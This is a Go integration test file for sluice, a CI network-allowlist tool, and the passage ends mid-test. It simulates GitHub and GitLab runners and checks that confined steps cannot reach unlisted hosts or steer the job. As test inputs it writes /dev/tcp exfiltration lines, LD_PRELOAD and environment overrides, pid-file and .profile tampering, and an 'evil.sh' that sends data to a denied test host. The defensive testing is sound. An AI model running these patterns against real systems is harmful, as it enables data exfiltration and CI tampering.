// SPDX-License-Identifier: Apache-2.0

//go:build linux

package ci_test

import (
	"bytes"
	"context"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/sluice-dev/sluice/tests/needs"
	"github.com/sluice-dev/sluice/tests/world"
)

var (
	sluiceBin string
	instance  string
)

func TestMain(m *testing.M) {
	code := func() int {
		if code, ready := needs.Main(m, "ci", needs.Kernel...); !ready {
			return code
		}
		bin, inst, cleanup, err := world.SluiceForTests("sluice-ci")
		if err != nil {
			os.Stderr.WriteString(err.Error() + "\n")
			return 1
		}
		defer cleanup()
		sluiceBin, instance = bin, inst
		return m.Run()
	}()
	os.Exit(code)
}

// The world's DNS server, the upstream of the jobs' daemons.
const dnsAddr = "203.0.113.53"

// runnerUID is the runner's user, as on a GitHub or GitLab runner: it owns
// the runner's directories and has passwordless sudo (a stand-in broker,
// tests/fakesudo, which refuses callers with no_new_privs as setuid sudo
// does).
const runnerUID = 65534

// runner is a runner machine with the action installed: the runner
// user's home with the runner's layout (work/_actions holding this
// action's code, work/_tool, the runner's own installation), sudo for
// that user, and install.sh run once, like the action's first step.
type runner struct {
	w       *world.World
	prefix  string // where install.sh put sluice, sluice-ci, sluice-shell
	base    string
	home    string
	work    string
	actions string // the downloaded action: work/_actions/sluice-dev/sluice/v1
	worker  string // the runner's Runner.Worker (a copy of bash)
	sudoDir string // sudo, first in the runner user's PATH
	sudoers string // while it exists, the runner's user has passwordless sudo
}

// job is one CI job on the runner: its temp directory and environment.
type job struct {
	t      *testing.T
	r      *runner
	w      *world.World
	dir    string  // RUNNER_TEMP
	ctl    string  // the job's control directory (root's)
	worker *worker // the job's Runner.Worker, when it outlives its steps (confine=job)
	env    []string
	steps  int
}

func newRunner(t *testing.T) *runner {
	w := world.New(t)
	needs.Have(t, needs.Kernel...)
	w.ServeDNS(t, mustAddr(dnsAddr), world.Zone(map[string][]string{
		"allowed.test.": {"A 203.0.113.10"},
		"denied.test.":  {"A 203.0.113.20"},
		"new.test.":     {"A 203.0.113.20"},
		"runner.test.":  {"AAAA 2001:db8:2::10"},
	}))
	base, err := os.MkdirTemp("/tmp", "sluice-ci-test-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(base) })
	if err := os.Chmod(base, 0o755); err != nil {
		t.Fatal(err)
	}
	r := &runner{w: w, prefix: filepath.Join(base, "prefix"), base: base, home: filepath.Join(base, "home", "runner")}
	r.work = filepath.Join(r.home, "work")
	r.actions = filepath.Join(r.work, "_actions", "sluice-dev", "sluice", "v1")
	r.worker = filepath.Join(r.home, "actions-runner", "bin", "Runner.Worker")
	r.sudoDir = filepath.Join(base, "sudo")
	for _, d := range []string{filepath.Join(base, "home"), r.sudoDir} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	for _, d := range []string{r.actions, filepath.Dir(r.worker), filepath.Join(r.work, "_tool", "node", "bin"), filepath.Join(r.work, "repo", "repo")} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	mustRun(t, "cp", "-a", ".", filepath.Join(r.actions, "ci"))
	mustRun(t, "cp", "/bin/bash", r.worker)
	mustRun(t, "chown", "-R", atoiString(runnerUID)+":"+atoiString(runnerUID), r.home)
	mustRun(t, "go", "build", "-o", filepath.Join(r.sudoDir, "sudo"), "../tests/fakesudo")
	ctx, cancel := context.WithCancel(context.Background())
	r.sudoers = filepath.Join(r.sudoDir, "sudoers")
	if err := os.WriteFile(r.sudoers, []byte(atoiString(runnerUID)+" ALL=(ALL) NOPASSWD:ALL\n"), 0o440); err != nil {
		cancel()
		t.Fatal(err)
	}
	broker := w.ClientCmd(ctx, filepath.Join(r.sudoDir, "sudo"), "serve", filepath.Join(r.sudoDir, "sudo.sock"), atoiString(runnerUID), r.sudoers)
	broker.Env = append(os.Environ(), "SLUICE_INSTANCE="+instance)
	broker.Stderr = os.Stderr
	if err := broker.Start(); err != nil {
		cancel()
		t.Fatal(err)
	}
	t.Cleanup(func() { cancel(); _ = broker.Wait() })
	for i := 0; ; i++ {
		if _, err := os.Stat(filepath.Join(r.sudoDir, "sudo.sock")); err == nil {
			break
		}
		if i > 100 {
			t.Fatal("the sudo stand-in did not start")
		}
		time.Sleep(20 * time.Millisecond)
	}
	out, code := r.root(t, nil, "bash", "github/install.sh")
	if code != 0 {
		t.Fatalf("install.sh: exit %d\n%s", code, out)
	}
	return r
}

// sudoAllowlist writes a job allowlist of hosts that also lets sessions
// reach the sudo stand-in's socket, so that what refuses `sudo` in a step
// is what refuses real (setuid) sudo there, not the unix-socket rule. It
// returns the file's path.
func (r *runner) sudoAllowlist(t *testing.T, hosts ...string) string {
	t.Helper()
	q := make([]string, len(hosts))
	for i, h := range hosts {
		q[i] = `"` + h + `"`
	}
	p := filepath.Join(r.base, "sudo-allowlist.json")
	body := `{"allowed_hosts": [` + strings.Join(q, ", ") + `], "unix_sockets": ["` + filepath.Join(r.sudoDir, "sudo.sock") + `"]}`
	if err := os.WriteFile(p, []byte(body+"\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	return p
}

// mustRun runs a command as root, here.
func mustRun(t *testing.T, name string, args ...string) {
	t.Helper()
	if out, err := exec.Command(name, args...).CombinedOutput(); err != nil {
		t.Fatalf("%s %v: %v\n%s", name, args, err, out)
	}
}

// root runs a command as root in the client namespace, from ci/.
func (r *runner) root(t *testing.T, env []string, name string, args ...string) (string, int) {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 90*time.Second)
	defer cancel()
	c := r.w.ClientCmd(ctx, name, args...)
	c.Env = append(append(os.Environ(), "SLUICE_INSTANCE="+instance, "SLUICE_BIN="+sluiceBin, "SLUICE_CI_PREFIX="+r.prefix), env...)
	c.WaitDelay = 5 * time.Second
	var b bytes.Buffer
	c.Stdout, c.Stderr = &b, &b
	err := c.Run()
	if ctx.Err() != nil {
		t.Fatalf("%s %v: no exit within 90 s\n%s", name, args, b.String())
	}
	code := 0
	if ee, ok := err.(*exec.ExitError); ok {
		code = ee.ExitCode()
	} else if err != nil {
		t.Fatalf("%s %v: %v", name, args, err)
	}
	return b.String(), code
}

// asRunner runs argv as the runner's user in the client namespace, as a
// child of the runner's Runner.Worker, with env and in dir; it returns the
// output and the exit status.
func (r *runner) asRunner(t *testing.T, env []string, dir string, argv ...string) (string, int) {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 90*time.Second)
	defer cancel()
	args := append([]string{"--reuid", atoiString(runnerUID), "--regid", atoiString(runnerUID), "--clear-groups", "--",
		r.worker, "-c", `"$@"; exit $?`, "Runner.Worker"}, argv...)
	c := r.w.ClientCmd(ctx, "setpriv", args...)
	c.Env, c.Dir, c.WaitDelay = env, dir, 5*time.Second
	var b bytes.Buffer
	c.Stdout, c.Stderr = &b, &b
	err := c.Run()
	if ctx.Err() != nil {
		t.Fatalf("%v: no exit within 90 s\n%s", argv, b.String())
	}
	code := 0
	if ee, ok := err.(*exec.ExitError); ok {
		code = ee.ExitCode()
	} else if err != nil {
		t.Fatalf("%v: %v", argv, err)
	}
	return b.String(), code
}

// worker is a Runner.Worker that runs a whole job's steps, as GitHub's
// does: one process, the parent of every step, so that a session it is
// put into holds every later step.
type worker struct {
	cmd  *exec.Cmd
	fifo *os.File
	req  string
	n    int
}

// startWorker starts the job's worker, as the runner's user in the
// client namespace.
func (r *runner) startWorker(t *testing.T) *worker {
	t.Helper()
	req, err := os.MkdirTemp(r.base, "worker-")
	if err != nil {
		t.Fatal(err)
	}
	fifo := filepath.Join(req, "fifo")
	if err := syscall.Mkfifo(fifo, 0o600); err != nil {
		t.Fatal(err)
	}
	mustRun(t, "chown", "-R", atoiString(runnerUID)+":"+atoiString(runnerUID), req)
	loop := `exec 3<>"$1"
while read -r id <&3; do
	[ "$id" = exit ] && exit 0
	bash "$2/$id.sh" >"$2/$id.out" 2>&1 </dev/null
	echo $? >"$2/$id.code.tmp" && mv "$2/$id.code.tmp" "$2/$id.code"
done`
	c := r.w.ClientCmd(context.Background(), "setpriv", "--reuid", atoiString(runnerUID), "--regid", atoiString(runnerUID), "--clear-groups", "--",
		r.worker, "-c", loop, "Runner.Worker", fifo, req)
	c.Env = []string{"PATH=/usr/sbin:/usr/bin:/sbin:/bin"}
	if err := c.Start(); err != nil {
		t.Fatal(err)
	}
	f, err := os.OpenFile(fifo, os.O_WRONLY, 0)
	if err != nil {
		t.Fatal(err)
	}
	w := &worker{cmd: c, fifo: f, req: req}
	t.Cleanup(func() { w.stop() })
	return w
}

// run has the worker run argv with env in dir and waits for its end.
func (w *worker) run(t *testing.T, env []string, dir string, argv ...string) (string, int) {
	t.Helper()
	w.n++
	id := "s" + atoiString(w.n)
	script := "cd " + shq(dir) + " && exec env -i"
	for _, kv := range env {
		script += " " + shq(kv)
	}
	for _, a := range argv {
		script += " " + shq(a)
	}
	if err := os.WriteFile(filepath.Join(w.req, id+".sh"), []byte(script+"\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if _, err := w.fifo.WriteString(id + "\n"); err != nil {
		t.Fatal(err)
	}
	deadline := time.Now().Add(90 * time.Second)
	for {
		if b, err := os.ReadFile(filepath.Join(w.req, id+".code")); err == nil {
			out, _ := os.ReadFile(filepath.Join(w.req, id+".out"))
			return string(out), atoi(strings.TrimSpace(string(b)))
		}
		if time.Now().After(deadline) {
			t.Fatalf("%v: no exit within 90 s", argv)
		}
		time.Sleep(20 * time.Millisecond)
	}
}

// stop ends the worker, as the runner's worker ends with its job.
func (w *worker) stop() {
	if w.cmd.Process == nil || w.cmd.ProcessState != nil {
		return
	}
	_, _ = w.fifo.WriteString("exit\n")
	done := make(chan struct{})
	go func() { _ = w.cmd.Wait(); close(done) }()
	select {
	case <-done:
	case <-time.After(5 * time.Second):
		_ = w.cmd.Process.Kill()
		<-done
	}
	w.fifo.Close()
}

// startJob runs the action's setup step (ci/github/setup.sh) with inputs,
// as the runner's user, who has sudo.
func (r *runner) startJob(t *testing.T, name string, inputs ...string) *job {
	t.Helper()
	return r.startJobIn(t, nil, name, inputs...)
}

// startJobIn is startJob with the job's steps run by w (nil: a worker
// per step).
func (r *runner) startJobIn(t *testing.T, w *worker, name string, inputs ...string) *job {
	t.Helper()
	dir := filepath.Join(r.work, "_temp")
	_ = os.RemoveAll(dir)
	event := filepath.Join(dir, "_github_workflow", "event.json")
	if err := os.MkdirAll(filepath.Join(dir, "_runner_file_commands"), 0o755); err != nil {
		t.Fatal(err)
	}
	_ = os.MkdirAll(filepath.Dir(event), 0o755)
	if err := os.WriteFile(event, []byte("{}\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	mustRun(t, "chown", "-R", atoiString(runnerUID)+":"+atoiString(runnerUID), dir)
	state := "/run/" + instance + "-" + name
	j := &job{t: t, r: r, w: r.w, dir: dir, ctl: state + "-ci", worker: w}
	j.env = append([]string{"PATH=" + r.sudoDir + ":" + filepath.Join(r.prefix, "bin") + ":" + os.Getenv("PATH"),
		"HOME=" + r.home, "SLUICE_INSTANCE=" + instance, "SLUICE_CI_PREFIX=" + r.prefix,
		"RUNNER_TEMP=" + dir, "RUNNER_WORKSPACE=" + filepath.Join(r.work, "repo"),
		"GITHUB_WORKSPACE=" + filepath.Join(r.work, "repo", "repo"), "GITHUB_EVENT_PATH=" + event,
		"RUNNER_TOOL_CACHE=" + filepath.Join(r.work, "_tool"), "GITHUB_ACTION_PATH=" + r.actions,
		"SLUICE_CI_GROUP=" + atoiString(runnerUID), "SLUICE_CI_DAEMON_FLAGS=--dns-upstream " + dnsAddr,
		"SLUICE_CI_STATE_DIR=" + state, "SLUICE_CI_CTL_DIR=" + j.ctl, "SLUICE_CI_SUDOERS=" + r.sudoers}, inputs...)
	t.Cleanup(func() {
		// finish stops the daemon; a failed test may not have got there.
		if b, err := os.ReadFile(filepath.Join(j.ctl, "daemon.pid")); err == nil {
			if p, err := os.FindProcess(atoi(string(b))); err == nil {
				_ = p.Kill()
			}
			time.Sleep(100 * time.Millisecond)
		}
		c := exec.Command(sluiceBin, "cleanup", "--state-dir", state)
		c.Env = append(os.Environ(), "SLUICE_INSTANCE="+instance)
		if out, err := c.CombinedOutput(); err != nil {
			t.Errorf("sluice cleanup: %v: %s", err, out)
		}
		_ = os.RemoveAll(j.ctl)
	})
	out, code, _ := j.run("setup", "bash", "--noprofile", "--norc", "-eo", "pipefail", filepath.Join(r.actions, "ci", "github", "setup.sh"))
	if code != 0 {
		t.Fatalf("setup.sh: exit %d\n%s", code, out)
	}
	return j
}

// run runs one step of the job as the runner does: fresh file-command
// files ($GITHUB_ENV, $GITHUB_PATH, $GITHUB_OUTPUT, $GITHUB_STEP_SUMMARY)
// owned by the runner's user, argv as that user, then what the step
// wrote to $GITHUB_ENV and $GITHUB_PATH applied to the environment of
// every later step. It returns the output, the exit status and the
// step's summary.
func (j *job) run(id string, argv ...string) (string, int, string) {
	t := j.t
	t.Helper()
	fc := filepath.Join(j.dir, "_runner_file_commands")
	files := map[string]string{}
	for _, v := range []string{"GITHUB_ENV", "GITHUB_PATH", "GITHUB_OUTPUT", "GITHUB_STEP_SUMMARY"} {
		p := filepath.Join(fc, strings.ToLower(v)+"_"+id)
		if err := os.WriteFile(p, nil, 0o644); err != nil {
			t.Fatal(err)
		}
		if err := os.Chown(p, runnerUID, runnerUID); err != nil {
			t.Fatal(err)
		}
		files[v] = p
	}
	env := append(append([]string{}, j.env...), "GITHUB_ACTION="+id)
	for v, p := range files {
		env = append(env, v+"="+p)
	}
	var out string
	var code int
	if j.worker != nil {
		out, code = j.worker.run(t, env, filepath.Join(j.r.work, "repo", "repo"), argv...)
	} else {
		out, code = j.r.asRunner(t, env, filepath.Join(j.r.work, "repo", "repo"), argv...)
	}
	sum, _ := os.ReadFile(files["GITHUB_STEP_SUMMARY"])
	t.Logf("step %s: exit %d\n%s\nsummary:\n%s", id, code, out, sum)
	if code == 125 {
		log, _ := os.ReadFile(filepath.Join(j.ctl, "daemon.log"))
		t.Logf("daemon.log:\n%s", log)
	}
	b, _ := os.ReadFile(files["GITHUB_ENV"])
	j.env = append(j.env, parseEnvFile(t, string(b))...)
	b, _ = os.ReadFile(files["GITHUB_PATH"])
	for _, p := range strings.Split(strings.TrimSpace(string(b)), "\n") {
		if p != "" {
			j.setEnv("PATH", p+":"+j.getEnv("PATH"))
		}
	}
	return out, code, string(sum)
}

// step runs a `run:` step's script the way the runner does with
// `shell: sluice-shell {0}`.
func (j *job) step(script string, env ...string) (string, int, string) {
	t := j.t
	t.Helper()
	j.steps++
	id := "__run"
	if j.steps > 1 {
		id += "_" + atoiString(j.steps)
	}
	path := filepath.Join(j.dir, id+".sh")
	if err := os.WriteFile(path, []byte(script), 0o644); err != nil {
		t.Fatal(err)
	}
	saved := j.env
	j.env = append(append([]string{}, j.env...), env...)
	defer func() { j.env = append(saved, j.env[len(saved)+len(env):]...) }()
	return j.run(id, filepath.Join(j.r.prefix, "bin", "sluice-shell"), path)
}

// plainStep runs a script as a `shell: bash` step (unconfined), as the
// runner does: bash --noprofile --norc -eo pipefail FILE.
func (j *job) plainStep(id, script string) (string, int) {
	t := j.t
	t.Helper()
	path := filepath.Join(j.dir, id+".sh")
	if err := os.WriteFile(path, []byte(script), 0o644); err != nil {
		t.Fatal(err)
	}
	out, code, _ := j.run(id, "bash", "--noprofile", "--norc", "-eo", "pipefail", path)
	return out, code
}

// finish runs the finish action's step (ci/github/finish.sh, from the
// downloaded action) as a `shell: bash` step, and returns the job summary
// it wrote.
func (j *job) finish() string {
	t := j.t
	t.Helper()
	out, code, sum := j.run("finish", "bash", "--noprofile", "--norc", "-eo", "pipefail", filepath.Join(j.r.actions, "ci", "github", "finish.sh"))
	if code != 0 {
		t.Fatalf("finish.sh: exit %d\n%s", code, out)
	}
	t.Logf("job summary:\n%s", sum)
	return sum
}

func (j *job) getEnv(k string) string {
	v := ""
	for _, kv := range j.env {
		if name, val, ok := strings.Cut(kv, "="); ok && name == k {
			v = val
		}
	}
	return v
}

func (j *job) setEnv(k, v string) { j.env = append(j.env, k+"="+v) }

// parseEnvFile reads a $GITHUB_ENV file as the runner does: NAME=VALUE
// lines and NAME<<DELIMITER blocks.
func parseEnvFile(t *testing.T, s string) []string {
	var out []string
	lines := strings.Split(s, "\n")
	for i := 0; i < len(lines); i++ {
		line := lines[i]
		if line == "" {
			continue
		}
		eq, hd := strings.Index(line, "="), strings.Index(line, "<<")
		if eq >= 0 && (hd < 0 || eq < hd) {
			out = append(out, line)
			continue
		}
		if hd < 0 {
			t.Fatalf("$GITHUB_ENV line %q: the runner would fail the step", line)
		}
		name, delim := line[:hd], line[hd+2:]
		var val []string
		for i++; i < len(lines) && lines[i] != delim; i++ {
			val = append(val, lines[i])
		}
		out = append(out, name+"="+strings.Join(val, "\n"))
	}
	return out
}

func tcpTo(host string, port uint16) string {
	return "exec 3<>/dev/tcp/" + host + "/" + atoiString(int(port)) + " || exit 7\necho reached " + host + "\n"
}

// TestGitHubJourney is the audit → block journey of docs/ci.md through the
// action's scripts: an audit job reaches an allowed and a not-yet-allowed
// host, its summary names the second and the learned allowlist holds
// both; a block job with that allowlist passes; a later block job whose
// step needs a new host fails, with the explanation and the suggested
// entry, and its summary names it; the world saw nothing of that step.
func TestGitHubJourney(t *testing.T) {
	r := newRunner(t)
	allowedPort := r.w.ListenTCP(t, world.AllowedV4)
	deniedPort := r.w.ListenTCP(t, world.DeniedV4)

	// 1. Audit: nothing is denied, what would have been is reported.
	j := r.startJob(t, "audit", "INPUT_MODE=audit", "INPUT_ALLOWLIST=allowed.test\n# comment\n", "INPUT_LEARN=true")
	if out, code, _ := j.step(tcpTo("allowed.test", allowedPort)); code != 0 || !strings.Contains(out, "reached allowed.test") {
		t.Fatalf("audit job, allowed host: exit %d\n%s", code, out)
	}
	out, code, sum := j.step(tcpTo("denied.test", deniedPort))
	if code != 0 || !strings.Contains(out, "reached denied.test") {
		t.Fatalf("audit job, new host: exit %d (audit mode denies nothing)\n%s", code, out)
	}
	if !strings.Contains(sum, "denied.test") || !strings.Contains(sum, "would be refused") || !strings.Contains(sum, "__run_2") {
		t.Errorf("the audit step's summary does not name denied.test as would-be-refused:\n%s", sum)
	}
	jobSum := j.finish()
	for _, want := range []string{"audit mode", "`__run_2`", "denied.test", "Suggested allowlist"} {
		if !strings.Contains(jobSum, want) {
			t.Errorf("audit job summary lacks %q", want)
		}
	}
	if strings.Contains(strings.Split(jobSum, "Suggested")[0], "`__run`") {
		t.Errorf("the summary lists the step that reached only allowed hosts:\n%s", jobSum)
	}
	learned := filepath.Join(j.dir, "sluice", "learned-allowlist.json")
	b, err := os.ReadFile(learned)
	if err != nil {
		t.Fatalf("learn: %v", err)
	}
	if !strings.Contains(string(b), `"allowed.test"`) || !strings.Contains(string(b), `"denied.test"`) {
		t.Fatalf("learned allowlist lacks a host the job needed:\n%s", b)
	}
	for _, f := range []string{"audit.jsonl", "daemon-audit.jsonl"} {
		if _, err := os.Stat(filepath.Join(j.dir, "sluice", f)); err != nil {
			t.Errorf("no %s to keep as an artifact: %v", f, err)
		}
	}
	committed := filepath.Join(r.base, "network_allowlist.json")
	if err := os.WriteFile(committed, b, 0o644); err != nil {
		t.Fatal(err)
	}

	// 2. Block with the committed allowlist: the same steps pass.
	j = r.startJob(t, "block", "INPUT_MODE=block", "INPUT_ALLOWLIST="+committed)
	if out, code, _ := j.step(tcpTo("allowed.test", allowedPort) + tcpTo("denied.test", deniedPort)); code != 0 {
		t.Fatalf("block job with the learned allowlist: exit %d\n%s", code, out)
	}
	if s := j.finish(); !strings.Contains(s, "Nothing was refused") {
		t.Errorf("block job summary with nothing refused:\n%s", s)
	}

	// 3. A later job needs a new host: the step fails and says why and
	// what to add; nothing reaches the world.
	j = r.startJob(t, "later", "INPUT_MODE=block", "INPUT_ALLOWLIST="+committed)
	if _, code, _ := j.step(tcpTo("allowed.test", allowedPort)); code != 0 {
		t.Fatalf("later job, allowed host: exit %d", code)
	}
	start := time.Now()
	// What an earlier (confined) step could have written to $GITHUB_ENV
	// changes nothing: sluice-shell takes its settings from a root-owned
	// file and is static.
	out, code, sum = j.step("getent hosts new.test || true\n"+tcpTo("203.0.113.20", deniedPort),
		"SLUICE_SOCKET=/nonexistent", "SLUICE_CI_MODE=audit", "SLUICE=/bin/true", "LD_PRELOAD=/nonexistent.so")
	if code == 0 {
		t.Fatalf("a step reaching a host the allowlist lacks passed in block mode:\n%s", out)
	}
	for _, want := range []string{"sluice: denied", "203.0.113.20", "add to the allowlist", "new.test"} {
		if !strings.Contains(out, want) {
			t.Errorf("the failing step's output lacks %q", want)
		}
	}
	if !strings.Contains(sum, "new.test") || !strings.Contains(sum, "refused") {
		t.Errorf("the failing step's summary does not name new.test:\n%s", sum)
	}
	r.w.AssertNothingArrived(t, world.All(world.Since(start), world.To(world.DeniedV4)), 300*time.Millisecond)
	// Nor can a step ask the daemon for an audit-mode session, which
	// would deny nothing.
	start = time.Now()
	out, code, _ = j.step(`"$SLUICE" run --audit -- bash -c ` + shq(tcpTo("203.0.113.20", deniedPort)))
	if code == 0 || !strings.Contains(out, "may not start an audit-mode session") {
		t.Errorf("a confined step started an audit-mode session: exit %d\n%s", code, out)
	}
	r.w.AssertNothingArrived(t, world.All(world.Since(start), world.To(world.DeniedV4)), 300*time.Millisecond)
	jobSum = j.finish()
	for _, want := range []string{"block mode", "`__run_2`", "new.test", "203.0.113.20", "refused"} {
		if !strings.Contains(jobSum, want) {
			t.Errorf("later job summary lacks %q", want)
		}
	}
}

// gitlabLines returns the commands of a list (before_script,
// after_script) of the .sluice template.
func gitlabLines(t *testing.T, key string) []string {
	t.Helper()
	b, err := os.ReadFile("gitlab/sluice.gitlab-ci.yml")
	if err != nil {
		t.Fatal(err)
	}
	var out []string
	in := false
	for _, line := range strings.Split(string(b), "\n") {
		switch {
		case line == "  "+key+":":
			in = true
		case in && strings.HasPrefix(line, "    - "):
			out = append(out, strings.TrimPrefix(line, "    - "))
		case in:
			in = false
		}
	}
	if len(out) == 0 {
		t.Fatalf("the template has no %s", key)
	}
	return out
}

// TestGitLabTemplate runs the .sluice template's before_script, two
// confined script lines and its after_script: the line that reaches an
// allowed host passes, the one that reaches another fails with the
// explanation and the entry it needs, and the job log's summary and the
// artifact directory name it.
func TestGitLabTemplate(t *testing.T) {
	r := newRunner(t)
	allowedPort := r.w.ListenTCP(t, world.AllowedV4)
	deniedPort := r.w.ListenTCP(t, world.DeniedV4)
	project := filepath.Join(r.base, "project")
	if err := os.MkdirAll(project, 0o777); err != nil {
		t.Fatal(err)
	}
	_ = os.Chmod(project, 0o777)
	mustRun(t, "chown", atoiString(runnerUID)+":"+atoiString(runnerUID), project)
	state := "/run/" + instance + "-gitlab"
	ctl := state + "-ci"
	t.Cleanup(func() {
		if b, err := os.ReadFile(filepath.Join(ctl, "daemon.pid")); err == nil {
			if p, err := os.FindProcess(atoi(string(b))); err == nil {
				_ = p.Kill()
			}
			time.Sleep(100 * time.Millisecond)
		}
		c := exec.Command(sluiceBin, "cleanup", "--state-dir", state)
		c.Env = append(os.Environ(), "SLUICE_INSTANCE="+instance)
		if out, err := c.CombinedOutput(); err != nil {
			t.Errorf("sluice cleanup: %v: %s", err, out)
		}
		_ = os.RemoveAll(ctl)
	})
	vars := []string{"PATH=" + r.sudoDir + ":" + filepath.Join(r.prefix, "bin") + ":" + os.Getenv("PATH"), "SLUICE_INSTANCE=" + instance,
		"HOME=" + r.home, "CI_PROJECT_DIR=" + project, "CI_JOB_NAME=agent", "SLUICE_CI_DIR=" + filepath.Join(project, ".sluice"),
		"SLUICE_CI_MODE=block", "SLUICE_CI_LEARN=false", "SLUICE_CI_ALLOWLIST=allowed.test", "SLUICE_CI_CTL_DIR=" + ctl,
		"SLUICE_CI_STATE_DIR=" + state, "SLUICE_CI_GROUP=" + atoiString(runnerUID), "SLUICE_CI_DAEMON_FLAGS=--dns-upstream " + dnsAddr}
	// The runner's shell: every line as the job's user, who has sudo
	// (before_script starts the daemon through it).
	shell := func(_ bool, line string) (string, int) {
		t.Helper()
		out, code := r.asRunner(t, vars, project, "bash", "-c", line)
		t.Logf("$ %s\nexit %d\n%s", line, code, out)
		return out, code
	}
	// The job user's login files: GitLab's shell executor runs every
	// script, after_script included, in a login shell that reads them.
	profile := filepath.Join(r.home, ".profile")
	if err := os.WriteFile(profile, []byte("# the runner's\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	_ = os.Chown(profile, runnerUID, runnerUID)
	for _, line := range gitlabLines(t, "before_script") {
		if _, code := shell(false, line); code != 0 {
			t.Fatalf("before_script %q: exit %d", line, code)
		}
	}
	if out, code := shell(true, "sluice-ci run -- bash -c "+shq(tcpTo("allowed.test", allowedPort))); code != 0 || !strings.Contains(out, "reached allowed.test") {
		t.Fatalf("a script line reaching an allowed host: exit %d", code)
	}
	start := time.Now()
	out, code := shell(true, "SLUICE_CI_STEP=fetch sluice-ci run -- bash -c "+shq(tcpTo("denied.test", deniedPort)))
	if code == 0 {
		t.Fatalf("a script line reaching a host the allowlist lacks passed")
	}
	for _, want := range []string{"refused DNS query for denied.test", "step 'fetch'", "add to the allowlist", "    denied.test"} {
		if !strings.Contains(out, want) {
			t.Errorf("the failing line's output lacks %q", want)
		}
	}
	r.w.AssertNothingArrived(t, world.All(world.Since(start), world.To(world.DeniedV4)), 300*time.Millisecond)
	// A confined line cannot choose what after_script kills or runs: the
	// pid file is root's, the login files read-only; the same user
	// outside sluice can append to .profile (the twin).
	decoy := exec.Command("sleep", "60")
	if err := decoy.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = decoy.Process.Kill(); _ = decoy.Wait() })
	daemonPID := atoi(readFile(t, filepath.Join(ctl, "daemon.pid")))
	out, _ = shell(true, "sluice-ci run -- bash -c "+shq("echo "+atoiString(decoy.Process.Pid)+" > "+ctl+"/daemon.pid && echo WROTE-PID; "+
		"echo "+atoiString(decoy.Process.Pid)+" > \"$SLUICE_CI_DIR/daemon.pid\"; echo 'touch "+r.home+"/planted' >> "+profile+" && echo PLANTED; true"))
	if strings.Contains(out, "WROTE-PID") || strings.Contains(out, "PLANTED") {
		t.Errorf("a confined line wrote the daemon's pid file or the login profile:\n%s", out)
	}
	if out, _ := shell(true, "echo '# appended' >> "+profile+" && echo PLANTED"); !strings.Contains(out, "PLANTED") {
		t.Errorf("twin: the job's user could not append to its .profile outside sluice")
	}
	var log string
	for _, line := range gitlabLines(t, "after_script") {
		o, code := shell(false, line)
		if code != 0 {
			t.Fatalf("after_script %q: exit %d", line, code)
		}
		log += o
	}
	for _, want := range []string{"block mode", "`fetch`", "denied.test", "refused", "Suggested allowlist"} {
		if !strings.Contains(log, want) {
			t.Errorf("the job log's summary lacks %q", want)
		}
	}
	if err := decoy.Process.Signal(syscall.Signal(0)); err != nil {
		t.Errorf("after_script killed a process a confined line chose")
	}
	if _, err := os.Stat("/proc/" + atoiString(daemonPID)); err == nil {
		t.Errorf("the job's daemon (pid %d) outlived after_script", daemonPID)
	}
	for _, f := range []string{"summary.md", "audit.jsonl", "daemon-audit.jsonl", "suggested-allowlist.json"} {
		if _, err := os.Stat(filepath.Join(project, ".sluice", f)); err != nil {
			t.Errorf("artifact file %s: %v", f, err)
		}
	}
}

// shq quotes s for sh.
func shq(s string) string { return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'" }

// TestGitHubConfinedStepCannotSteerTheJob is issue 16's attacks, each by a
// confined step on a runner-like layout (the runner's user owns the
// runner's directories and has sudo), each judged by what the world or
// the file system recorded, each beside a twin that shows the same act
// works where sluice does not stand in the way:
//   - the step rewrites the job's allowlist (the daemon applies a change
//     to the file within a second: the twin is root's change);
//   - it plants code in the downloaded action that the finish step runs
//     unconfined, or renames the directories above it to put its own in
//     place (twin: the runner's user, unconfined, can append);
//   - it sets BASH_ENV, SLUICE or LD_PRELOAD for later steps through
//     $GITHUB_ENV, and puts a directory it can write on $GITHUB_PATH
//     (twin: an unconfined step's same lines are applied and BASH_ENV
//     runs in the next bash step);
//   - it writes another pid where finish finds the daemon's;
//   - it connects to the daemon's socket from outside the job's group.
//
// A positive control in the same step still reaches the allowed host.
func TestGitHubConfinedStepCannotSteerTheJob(t *testing.T) {
	r := newRunner(t)
	allowedPort := r.w.ListenTCP(t, world.AllowedV4)
	deniedPort := r.w.ListenTCP(t, world.DeniedV4)
	j := r.startJob(t, "attack", "INPUT_MODE=block", "INPUT_ALLOWLIST="+r.sudoAllowlist(t, "allowed.test"))

	// What steers the job is root's.
	for _, f := range []string{j.ctl, filepath.Join(j.ctl, "network_allowlist.json"), filepath.Join(j.ctl, "daemon.pid"), filepath.Join(r.prefix, "etc", "sluice-ci.conf")} {
		var st syscall.Stat_t
		if err := syscall.Stat(f, &st); err != nil || st.Uid != 0 || st.Mode&0o022 != 0 {
			t.Errorf("%s: want root's, writable by no one else (uid %d, mode %o, %v)", f, st.Uid, st.Mode&0o7777, err)
		}
	}
	var st syscall.Stat_t
	if err := syscall.Stat(filepath.Join(j.ctl, "sluice.sock"), &st); err != nil || st.Mode&0o007 != 0 || st.Gid != runnerUID {
		t.Errorf("the daemon's socket: want the job's group only (gid %d, mode %o, %v)", st.Gid, st.Mode&0o777, err)
	}

	finishSh := filepath.Join(r.actions, "ci", "github", "finish.sh")
	orig, err := os.ReadFile(finishSh)
	if err != nil {
		t.Fatal(err)
	}
	marker := filepath.Join(r.home, "planted-ran")
	evil := filepath.Join(r.work, "repo", "repo", "evil.sh")
	if err := os.WriteFile(evil, []byte("#!/bin/bash\ntouch "+marker+"\nexec 3<>/dev/tcp/203.0.113.20/"+atoiString(int(deniedPort))+" && echo leaked >&3\n"), 0o755); err != nil {
